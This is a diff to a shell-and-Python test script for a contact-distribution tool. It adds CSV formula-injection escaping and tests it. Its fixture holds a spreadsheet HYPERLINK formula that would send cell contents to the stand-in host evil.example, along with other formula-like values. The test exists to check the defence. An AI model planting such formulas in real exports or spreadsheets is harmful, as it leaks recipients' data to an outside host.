@@ -93,9 +93,18 @@ def read_vcards(data, where):
     check(len({c.uid.value for c in cards}) == len(cards), where + ': UIDs unique')
     return cards
 
+def guarded(value):
+    """The cell that ctcgw(8) writes for value: after an apostrophe when a
+    spreadsheet would read it as a formula."""
+    rest = value.lstrip("'")
+    return "'" + value if rest and rest[0] in '=+-@\t\r' else value
+
 def read_csv(text, where):
     rows = list(csv.reader(io.StringIO(text, newline='')))
     check(rows[0] == fields, where + ': header ' + repr(rows[0]))
+    for row in rows[1:]:
+        for cell in row:
+            check(not cell or cell[0] not in '=+-@\t\r', where + ': a formula ' + repr(cell))
     return [dict(zip(fields, row)) for row in rows[1:]]
 
 def read_message(path):
@@ -150,7 +159,7 @@ for name in sorted(os.listdir(os.path.join(sink, 'new'))):
     for card, row in zip(cards, rows):
         example = by_email[row['Email']]
         for key in ('Name', 'Title', 'Office', 'Phone', 'Role'):
-            check(row[key] == example[key], where + ': CSV %s of %s' % (key, row['Email']))
+            check(row[key] == guarded(example[key]), where + ': CSV %s of %s' % (key, row['Email']))
         check(card.fn.value == example['Name'], where + ': FN ' + card.fn.value)
         check(card.title.value == example['Title'], where + ': TITLE of ' + row['Email'])
         check(card.tel.value == example['Phone'], where + ': TEL of ' + row['Email'])
@@ -167,5 +176,79 @@ sys.exit(1 if problems else 0)
 EOF
 check_true "every message, CSV and vCard reads back" \
     "$PY" "$TMP/read.py" "$SINK" "$CTCGW_SRCDIR/examples/contacts.csv" "$TMP/contacts.vcf"
+
+# --- formulas: the CSV that every contact point gets, imported again --------
+# A contact point's values that a spreadsheet would read as formulas are
+# written after an apostrophe, and an import takes it off (ctcgw(8), CSV
+# AND SPREADSHEETS).
+cat >"$TMP/formulas.csv" <<'EOF'
+Entity,Name,Email,Title,Office,Phone
+KZ,-Formula Person,formula@mfa.kz.example,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",@SUM(A1:A9),+7 727 123 4567
+KZ,Quoted Person,quoted@mfa.kz.example,'quoted',''=1+1,
+EOF
+check "import contact points whose values look like formulas" 0 ctcgw import contacts "$TMP/formulas.csv"
+rm -f "$SINK/new/"*
+check "distribute to them" 0 ctcgw distribute contacts --to entities:KZ
+check "deliver" 0 ctcgw run --once
+cat >"$TMP/cells.py" <<'EOF'
+import csv, email, io, os, sqlite3, sys
+from email import policy
+
+COLUMNS = 'entity, name, email, title, office, phone, languages, role, areas'
+
+def attachment(sink, out):
+    """Writes the contacts.csv of a message of sink to out."""
+    name = sorted(os.listdir(os.path.join(sink, 'new')))[0]
+    with open(os.path.join(sink, 'new', name), 'rb') as f:
+        msg = email.message_from_binary_file(f, policy=policy.default)
+    part = [p for p in msg.iter_attachments() if p.get_filename() == 'contacts.csv'][0]
+    with open(out, 'wb') as f:
+        f.write(part.get_payload(decode=True))
+
+def cell(path, address, column):
+    with open(path, newline='', encoding='utf-8') as f:
+        return [r for r in csv.DictReader(f) if r['Email'] == address][0][column]
+
+def register(db):
+    con = sqlite3.connect(db)
+    return con.execute('SELECT ' + COLUMNS + ' FROM contacts'
+                       " WHERE state = 'active' ORDER BY email").fetchall()
+
+what = sys.argv[1]
+if what == 'attachment':
+    attachment(sys.argv[2], sys.argv[3])
+elif what == 'cell':
+    sys.exit(0 if cell(sys.argv[2], sys.argv[3], sys.argv[4]) == sys.argv[5] else 1)
+elif what == 'same':
+    a, b = register(sys.argv[2]), register(sys.argv[3])
+    for x, y in zip(a, b):
+        if x != y:
+            print(x, y, sep='\n')
+    sys.exit(0 if a == b and len(a) == 13 else 1)
+EOF
+cells () {
+    "$PY" "$TMP/cells.py" "$@"
+}
+check_true "the contacts.csv of a message" cells attachment "$SINK" "$TMP/distributed.csv"
+check_true "the formula is written after an apostrophe" cells cell "$TMP/distributed.csv" \
+    formula@mfa.kz.example Title "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
+check_true "so is the name that begins with a minus" cells cell "$TMP/distributed.csv" \
+    formula@mfa.kz.example Name "'-Formula Person"
+check_true "and the telephone number" cells cell "$TMP/distributed.csv" \
+    formula@mfa.kz.example Phone "'+7 727 123 4567"
+check_true "a value that begins with an apostrophe is written as it is" cells cell \
+    "$TMP/distributed.csv" quoted@mfa.kz.example Title "'quoted'"
+check_true "unless a formula follows the apostrophe" cells cell \
+    "$TMP/distributed.csv" quoted@mfa.kz.example Office "''=1+1"
+check "the register keeps the formula as sent" 0 test \
+    "$(sqlite3 "$TMP/db.sqlite" "SELECT title FROM contacts WHERE email = 'formula@mfa.kz.example'")" \
+    = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+sed "s|$TMP/db.sqlite|$TMP/again.sqlite|" "$CONF" >"$TMP/again.conf"
+check "init a second database" 0 "$CTCGW" -c "$TMP/again.conf" init
+check "import the distributed contacts.csv into it" 0 \
+    "$CTCGW" -c "$TMP/again.conf" import contacts "$TMP/distributed.csv"
+check_out "every contact point of it" '^imported 13 records'
+check_true "every value comes back as it is in the register" \
+    cells same "$TMP/db.sqlite" "$TMP/again.sqlite"
 
 finish
